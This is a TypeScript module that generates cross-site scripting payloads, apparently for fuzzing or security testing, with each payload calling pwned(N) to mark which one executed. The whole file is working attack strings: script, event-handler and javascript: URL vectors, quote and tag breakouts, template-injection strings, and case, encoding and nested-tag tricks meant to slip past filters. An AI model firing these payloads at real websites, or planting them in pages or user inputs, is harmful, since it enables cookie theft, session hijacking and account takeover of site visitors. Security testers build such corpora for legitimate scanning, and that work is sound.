/** Each payload calls `pwned(N)`, so that the attack knows which one ran. */
const BASES: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe src=javascript:${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<math href=javascript:${call}>x`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<style>@import'javascript:${call}'</style>`,
  (call) => `<b style=animation-name:x onanimationstart=${call}>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<xss id=x tabindex=1 onfocus=${call}>`,
  (call) => `<base href=javascript:${call}//>`,
  (call) => `<meta http-equiv=refresh content=0;javascript:${call}>`,
];
const WRAPS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</script>${text}`,
  (text) => `--></title>${text}`,
  (text) => `</textarea>${text}`,
  (text) => text.replace(/<(\w+)/, (tag) => tag.toUpperCase()).replace('javascript:', 'jAvAsCrIpT:'),
  (text) => text.replace(/ /, '/'),
];
/** Payloads without a tag, for attributes, templates, scripts and URLs. */
const BARE: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `vbscript:${call}`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `' onfocus='${call}' autofocus x='`,
  (call) => `';${call};'`,
  (call) => `";${call};//`,
  (call) => `\\";${call};//`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\u2028${call}//`,
  (call) => `${'$'}{${call}}`,
  (call) => `]]><script>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<![CDATA[<script>${call}</script>]]>`,
  (call) => `[x](javascript:${call})`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `expression(${call})`,
  (call) => `url(javascript:${call})`,
];

export const isAddress = (payload: string): boolean =>
  /^[\sa-z]*(java\s?script|vbscript|data):/i.test(payload);

/** Returns `count` different payloads, spread over all kinds. */
export function xssPayloads(count: number): string[] {
  const makers = [
    ...BARE,
    ...WRAPS.flatMap((wrap) => BASES.map((base) => (call: string) => wrap(base(call)))),
  ];
  const step = makers.length / Math.min(count, makers.length);
  const chosen = Array.from(
    { length: Math.min(count, makers.length) },
    (_, index) => makers[Math.floor(index * step)],
  );
  return [
    ...chosen.map((make, index) => make?.(`pwned(${index})`) ?? ''),
    // Beyond the known kinds, two payloads are concatenated.
    ...Array.from({ length: Math.max(0, count - makers.length) }, (_, index) => {
      const make = (offset: number) =>
        makers[(index * 7 + offset) % makers.length]?.(`pwned(${index})`) ?? '';
      return make(0) + make(13);
    }),
  ];
}
